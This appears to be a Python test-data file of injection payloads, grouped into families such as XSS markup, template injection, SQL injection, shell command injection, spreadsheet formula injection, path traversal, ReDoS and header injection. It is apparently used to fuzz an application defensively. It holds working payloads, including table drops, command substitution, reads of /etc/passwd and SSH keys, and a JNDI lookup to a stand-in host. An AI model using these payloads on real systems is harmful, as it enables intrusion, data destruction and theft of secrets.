"""Texts that some program would run: a browser, a database, a shell, a spreadsheet, a template."""

# fmt: off

MARKUP = [
    "<script>alert('canary')</script>", "</script><script>canary()</script>", "<ScRiPt>canary()</sCrIpT>",
    "<script src=//canary.example></script>", "<script>canary()//", "<svg onload=canary()>",
    "<svg/onload=canary()>", "<svg><script>canary()</script></svg>", "<svg><animate onbegin=canary()>",
    "<img src=x onerror=canary()>", "<img src='x' onerror=\"canary()\">", "<img/src/onerror=canary()>",
    '"><img src=x onerror=canary()>', "'><img src=x onerror=canary()>", '" onmouseover="canary()',
    "' onfocus='canary()' autofocus='", "` onclick=canary() `", "<body onload=canary()>",
    "<iframe src=javascript:canary()>", "<iframe srcdoc='<script>canary()</script>'>", "<object data=x>",
    "<embed src=x>", "<base href=//canary.example/>", "<link rel=stylesheet href=//canary.example>",
    "<meta http-equiv=refresh content='0;url=//canary.example'>", "<form action=//canary.example>",
    "<input autofocus onfocus=canary()>", "<details open ontoggle=canary()>", "<marquee onstart=canary()>",
    "<video><source onerror=canary()>", "<audio src=x onerror=canary()>", "<math><mi xlink:href=x>",
    "<style>*{background:url(//canary.example)}</style>", "<a href=javascript:canary()>x</a>",
    "<a href='data:text/html,<script>canary()</script>'>x</a>", "<!--", "-->", "<!-- --!><script>canary()</script>",
    "<![CDATA[<script>canary()</script>]]>", "]]>", "<?xml version='1.0'?>", "<?php echo 'canary' ?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>", "&lt;script&gt;", "&amp;lt;b&amp;gt;",
    "&#60;script&#62;", "&#x3c;b&#x3e;", "&nbsp;", "&quot;", "&apos;", "&", "&&", "&;", "<", ">", "<>",
    "</", "/>", "<b", "<b>bold</b>", "<noscript><p title='</noscript><img src=x onerror=canary()>'>",
    "<template><script>canary()</script></template>", "<textarea></textarea><script>canary()</script>",
    "</textarea><script>canary()</script>", "</title><script>canary()</script>", "</style><script>canary()</script>",
    "<xmp><script>canary()</script>", "<plaintext>", "\u003cscript\u003e", "\\u003cscript\\u003e",
    "<script>/*</script>*/", "<img src=x:x onerror=canary()>", "<img src=1 href=1 onerror=canary()>",
    "javascript:/*--></title></style></textarea></script><svg onload=canary()>", "<a id=x name=y>",
    "<x onclick=canary()>x</x>", "<input name=csrfmiddlewaretoken value=x>", "<isindex action=j&Tab;avas>",
    "+ADw-script+AD4-canary()+ADw-/script+AD4-", "\u00bcscript\u00be", "＜script＞", "‹script›",
    "<a href=\"x\" ping=\"//canary.example\">", "<svg><use href='data:image/svg+xml,x'>", "<img srcset='x 1x'>",
]

MARKDOWN = [
    "[x](javascript:canary())", "[x](JaVaScRiPt:canary())", "[x](java\tscript:canary())", "[x](vbscript:canary)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)", "![x](javascript:canary())", "![x](//canary.example/x.png)",
    "![x](https://canary.example/x.png)", "[x]: javascript:canary()\n[x]", "<javascript:canary()>",
    "<https://canary.example>", "[x](<javascript:canary()>)", "[x](https://e.example 'title\" onclick=canary()')",
    "[x](&#106;avascript:canary())", "[x](%6aavascript:canary())", "[x]( javascript:canary())", "[[[[[[[[x",
    "[" * 200, "](" * 100, "*" * 200, "_" * 200, "**a*b**c*", "`" * 99, "```\ncode", "~~~", "    code",
    "# " * 50, "#" * 7, "> " * 50 + "x", ">" * 100, "- " * 50 + "x", "1. x\n2. y", "999999999999. x", "-\n-\n-",
    "---", "===", "a\n===", "a\n---", "| a | b |\n|---|---|\n| 1 | 2 |", "[^1]: note", "[x][y][z]", "\\[x\\]",
    "\\" * 99, "&copy;", "&#x1F600;", "<b>html</b>", "<!-- c -->", "a  \nb", "a\\\nb", "![](x)", "[](x)", "[]()",
    "![" * 99, "<a" * 200, "**" * 150 + "x", "*_" * 99, "(((((" * 30, "[a](" * 99, "> - > - > - x", "\t\t- x",
]

TEMPLATES = [
    "{{7*7}}", "{{ 7 * 7 }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{%debug%}", "{% debug %}", "{{settings.SECRET_KEY}}",
    "{{ request }}", "{{ self.__init__ }}", "{% include 'admin/index.html' %}", "{% load x %}", "{% endblock %}",
    "{% csrf_token %}", "{# comment #}", "{{", "}}", "{%", "%}", "{{{{", "{{''.__class__.__mro__[1]}}", "@(7*7)",
    "{{config}}", "{php}echo 7{/php}", "*{7*7}", "[[${7*7}]]", "{{= 7*7}}", "{{constructor.constructor('x')()}}",
    "%s", "%d", "%n", "%s%s%s%s%s%s", "%(name)s", "%(x", "%", "%%", "{0}", "{name}", "{}", "{0.__class__}",
    "{self.__dict__}", "$name", "${name}", "$(name)", "`name`", "%{name}", "%1$s", "%99999s", "{:>999999}", "{!r}",
    "{0!r:{0}}", "${jndi:ldap://canary.example/a}", "${env:SECRET_KEY}", "${{ secrets.X }}", "<#assign x=1>", "#set($x=1)",
]

SQL = [
    "' OR '1'='1", "' OR 1=1--", "\" OR \"\"=\"", "1; DROP TABLE skills", "'; DROP TABLE skills;--", "') OR ('1'='1",
    "' UNION SELECT NULL--", "' UNION SELECT version(),2--", "1 OR 1=1", "admin'--", "admin'/*", "'/**/OR/**/1=1",
    "'; SELECT pg_sleep(30);--", "' || pg_sleep(30) || '", "1) AND 1=(SELECT 1 FROM pg_sleep(30))--", "\\'; --",
    "'||(SELECT 'x')||'", "$$; DROP TABLE x; $$", "$tag$x$tag$", "E'\\x27'", "U&'\\0027'", "%27", "%' OR name LIKE '%",
    "100%", "50%_", "a_b", "a\\%b", "\\_", "_%", "%%%", "____", "'", "''", "'''", '"', '""', "`", ";", "--", "/*", "*/",
    "x' AND email IS NULL; --", "1e0", "0x27", "CAST(1 AS int)", "CHR(39)", "';COPY x TO PROGRAM 'id';--", "\\copy",
    "name::text", "a->>'b'", "@>", "?|", "jsonb '{}'", ":name", "%(x)s", "$1", "?", "' AND 1=CAST((SELECT 1) AS int)--",
]

SHELL = [
    "; id", "| id", "|| id", "&& id", "& id", "`id`", "$(id)", "$(sleep 30)", "\n id", "> /tmp/canary", "< /etc/passwd",
    "$HOME", "~root", "!!", "*", "?", "[a-z]", "{a,b}", "-rf /", "--help", "-v", "-", "\\", "'; id; '", '"; id; "',
    "() { :; }; id", "%0aid", "${IFS}id", "$'\\x41'", "|ping canary.example", "^id", "%COMSPEC%", "&dir&",
]

FORMULAS = [
    "=1+1", "=SUM(A1:A9)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://canary.example\",\"x\")", "+1+1", "+cmd|'x'!A0",
    "-1+1", "-2+3+cmd|'x'!A0", "@SUM(1+1)", "@x", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "'=1+1", "\"=1+1\"", "=1+1\"",
    "=IMPORTXML(\"https://canary.example\",\"//a\")", "=WEBSERVICE(\"https://canary.example\")", "=DDE(\"cmd\";\"x\";\"y\")",
    "=EXEC(\"x\")", "＝1+1", "＋1", "－1", "＠x", "=A1", "==1", "=", "+", "-", "@", "|", "%0A=1+1", ";=1+1", ",=1+1",
    "=INDIRECT(\"A1\")", "=NOW()", "=RAND()", "=IFERROR(1/0,\"x\")", "0x1", "1,2,3", "1;2;3", "a\tb", "\"a\",\"b\"",
]

PATHS = [
    "../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "/etc/passwd\0.png", "....//....//etc/passwd",
    "%2e%2e%2fetc%2fpasswd", "%252e%252e%252f", "..%c0%af", "..%5c", "file:///etc/passwd", "C:\\boot.ini",
    "\\\\canary.example\\share", "/proc/self/environ", "/dev/null", "/dev/random", "NUL", "a/b/c", "./x", "x/.", "x/..",
    "//x", "/", "/admin/", "/api/", ".env", ".git/config", "%2F", "a%00b", "~/.ssh/id_rsa", "x.png/../y", "x;.png",
    "x.php.png", "x.svg", "x.png ", "x.png.", "CON.png", "x" * 260 + ".png", "/images/" + "0" * 32 + ".png",
    "/images/" + "f" * 32 + ".svg", "/images/../api", "/images/" + "G" * 32 + ".png", "/images/" + "0" * 31 + ".png",
    "/images/" + "0" * 32 + ".png?x", "/images/" + "0" * 32 + ".png\n", "/images//" + "0" * 32 + ".png", "/static/x.png",
]

# What makes a regular expression think for ever.
EXPRESSIONS = [
    "a" * 50 + "!", "a" * 5000 + "!", "a@" + "a" * 300, "a" * 200 + "@", "a." * 200, "a@" + "b." * 100, "-" * 300,
    "(a+)+$", "(a|a)*b", "([a-z]+)*", "(.*)*", "^(([a-z])+.)+[A-Z]([a-z])+$", "(?=a)", "(?P<x>a)", "(", ")", "[", "]",
    "[a-", "*", "+", "?", "{", "}", "{1,", "\\", "\\1", "(?", "(?i)", "a{99999}", "(a{1,99}){1,99}", "x" * 100 + " ",
    " " * 1000 + "x", "0" * 300 + "-", "1" * 60 + "-01", "http://" + "a" * 250, "http://a." + "b-" * 120 + ".c",
    "https://" + "1." * 120, "http://[" + "1:" * 100 + "]", "\t" * 2000, "=" * 3000, "<" * 3000, "((((" * 200,
    "a,b;c" * 300, "\n\r" * 500, "🙂" * 200 + "!", "é" * 300 + "!", ".+" * 100, "a\\" * 100, "é+" * 50,
]

HEADER_JUNK = [
    "a\r\nSet-Cookie: canary=1", "a\nLocation: //canary.example", "a\r\n\r\n<script>", "%0d%0aX-Canary: 1", "a\rX: 1",
    "\u560d\u560aX: 1", "chunked, identity", "gzip;q=1e9", "bytes=0-", "Bearer ", "Basic !!!", "W/\"x", "\"", "*, *",
    "text/html;charset=utf-7", "application/json; charset=x; charset=y", "multipart/form-data", "a;b=c;d", ",,,,", ";;;",
    "en-US;q=0.5,de;q=x", "en;q=-1", "*;q=9", "Mon, 99 Foo 9999 99:99:99 GMT", "Thu, 01 Jan 1970 00:00:00", "0", "-1",
]

FAMILIES = {
    "markup": MARKUP,
    "markdown": MARKDOWN,
    "templates": TEMPLATES,
    "sql": SQL,
    "shell": SHELL,
    "formulas": FORMULAS,
    "paths": PATHS,
    "expressions": EXPRESSIONS,
    "headers": HEADER_JUNK,
}
